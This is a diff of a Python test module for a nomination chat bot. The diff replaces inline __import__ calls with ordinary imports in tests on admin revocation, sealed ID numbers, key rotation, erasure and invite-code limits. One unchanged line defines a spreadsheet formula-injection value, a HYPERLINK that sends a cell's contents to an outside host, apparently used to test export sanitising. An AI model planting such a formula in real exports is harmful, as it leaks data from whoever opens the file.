@@ -1,10 +1,10 @@
-"""Issue "Trust defects": rights that can be taken away, and the audit trail of the change.
-
-Each test here failed on the code before the fix; the item number is the issue's."""
+"""Issue "Trust defects": each test here failed on the code before its fix; the item number in
+its name is the issue's."""
 
 from __future__ import annotations
 
 import os
+from datetime import timedelta
 from pathlib import Path
 
 from sqlalchemy import select
@@ -12,8 +12,11 @@ from sqlalchemy import select
 from bot.config import Settings
 from bot.db import schema as t
 from bot.service import build
+from handlers.messages import Msg
+from handlers.records import Role
+from tests.conftest import sqlite_only
 from tests.harness import Person as Chat
-from tests.helpers import name_admin
+from tests.helpers import name_admin, nik_for
 
 
 async def _audit_actions(siaga, subject: int) -> list[str]:  # type: ignore[no-untyped-def]
@@ -66,7 +69,7 @@ async def test_item1_a_removed_admin_who_joined_a_kelurahan_stays_its_reviewer(s
 
     from tests.test_review import KELUN, make
 
-    boss = await make(siaga, "dinas", __import__("handlers.records").records.Role.ADMIN, KELUN)
+    boss = await make(siaga, "dinas", Role.ADMIN, KELUN)
     siaga.handler_settings = replace(siaga.handler_settings, admins=frozenset())
     chat = Chat(siaga, "dinas")
     await chat.say("/statistik")
@@ -83,7 +86,6 @@ EVIL = '=HYPERLINK("http://x/?d="&C2,"klik")'
 
 async def _approved(siaga, name: str, occupation_text: str, serial: int = 1) -> None:  # type: ignore[no-untyped-def]
     from domain.nomination import NominationStatus
-    from tests.helpers import nik_for
 
     async with siaga.store() as store:
         now = siaga.clock()
@@ -151,8 +153,6 @@ def _sqlite_bytes(data: Path) -> bytes:
 
 
 async def test_item3_a_full_flow_leaves_no_clear_nik_in_any_table_or_file(siaga) -> None:  # type: ignore[no-untyped-def]
-    from tests.helpers import nik_for
-
     nik = nik_for(41, female=True)
     warga = Chat(siaga, "777001", channel="telegram")  # a kept channel: replies go to the outbox
     for line in ["1", "setuju", "Sri Rahayu", nik]:
@@ -207,7 +207,7 @@ async def test_item4_a_missing_key_over_sealed_niks_stops_the_start(tmp_path: Pa
     siaga = await build(Settings(data_dir=data))  # the right key again: all works
     try:
         dup = Chat(siaga, "warga-2")  # the same NIK from another account is still caught
-        for line in ["1", "setuju", "Warga Uji", __import__("tests.helpers").helpers.nik_for(40)]:
+        for line in ["1", "setuju", "Warga Uji", nik_for(40)]:
             await dup.say(line)
         await dup.say("1")
         assert "sudah pernah diusulkan" in dup.text and ref in dup.text
@@ -219,7 +219,7 @@ def test_item4_doctor_fails_and_the_chat_refuses_without_the_key(tmp_path: Path)
     import subprocess
     import sys
 
-    from tests.helpers import chat, chat_env, nik_for
+    from tests.helpers import chat, chat_env
 
     chat(tmp_path, "a", "1", "setuju", "Ani", nik_for(30), "1")
     (tmp_path / "siaga.key").unlink()
@@ -238,7 +238,6 @@ def test_item4_doctor_fails_and_the_chat_refuses_without_the_key(tmp_path: Path)
 
 async def test_item4_rotation_reseals_everything_in_one_go(tmp_path: Path) -> None:
     from bot.keys import rotate
-    from tests.helpers import nik_for
 
     data = tmp_path / "data"
     siaga = await build(Settings(data_dir=data))
@@ -296,8 +295,6 @@ async def test_item5_erasing_an_approved_person_returns_the_place_and_leaves_no_
     siaga,
 ) -> None:  # type: ignore[no-untyped-def]
     from handlers import review
-    from handlers.records import Role
-    from tests.helpers import nik_for
     from tests.test_review import KELUN, act, make, nomination, set_quota
 
     await set_quota(siaga, 5)
@@ -335,8 +332,7 @@ async def test_item5_erasing_an_approved_person_returns_the_place_and_leaves_no_
         assert n.nik_masked == "3577 01•• •••• " + nik[12:] and n.answers == {}
         notices = (await store.conn.execute(
             select(t.outbox.c.payload).where(t.outbox.c.person_id == lurah.id))).all()  # fmt: skip
-    texts = [siaga.catalogue.render(__import__("handlers.messages").messages.Msg.from_json(
-        p.payload[0]["p"][0]), "id") for p in notices]  # fmt: skip
+    texts = [siaga.catalogue.render(Msg.from_json(p.payload[0]["p"][0]), "id") for p in notices]
     assert any(ref in x and "sisa kuota kota 5 tempat" in x for x in texts), texts
     after = await _every_value(siaga)
     for trace in (name, "Sulastri", phone, phone[1:], nik, nik[6:12]):
@@ -362,7 +358,7 @@ async def test_item5_ids_are_not_reused_after_an_erasure(siaga) -> None:  # type
     assert ids and gone not in ids  # the newcomer does not inherit the audit rows
 
 
-@__import__("tests.conftest").conftest.sqlite_only("the SQLite rebuild of migration 0007")
+@sqlite_only("the SQLite rebuild of migration 0007")
 def test_item5_the_migration_keeps_every_row_and_reference(tmp_path: Path) -> None:
     import asyncio
     import sqlite3
@@ -421,8 +417,6 @@ def test_item5_the_migration_keeps_every_row_and_reference(tmp_path: Path) -> No
 
 
 async def test_item7_odd_digits_pick_buttons_and_odd_ages_are_refused(siaga) -> None:  # type: ignore[no-untyped-def]
-    from tests.helpers import nik_for
-
     p = Chat(siaga, "digits")
     await p.say("halo")
     await p.say("②")  # circled two at the main menu: the second button, status
@@ -499,9 +493,8 @@ async def test_item10_invite_guesses_are_limited_and_codes_never_logged(siaga) -
         assert "tidak berlaku" in guesser.text
     await guesser.say(f"/lurah {code}")  # even the right code, after five wrong ones
     assert "Coba lagi nanti" in guesser.text
-    siaga.clock = (lambda later: lambda: later)(
-        siaga.clock() + __import__("datetime").timedelta(hours=1, minutes=1)
-    )
+    later = siaga.clock() + timedelta(hours=1, minutes=1)
+    siaga.clock = lambda: later
     spaced = f"{code[:4].lower()} {code[4:].lower()}"  # as read out over the phone
     await guesser.say(f"/lurah {spaced}")
     assert "Selamat bergabung" in guesser.text
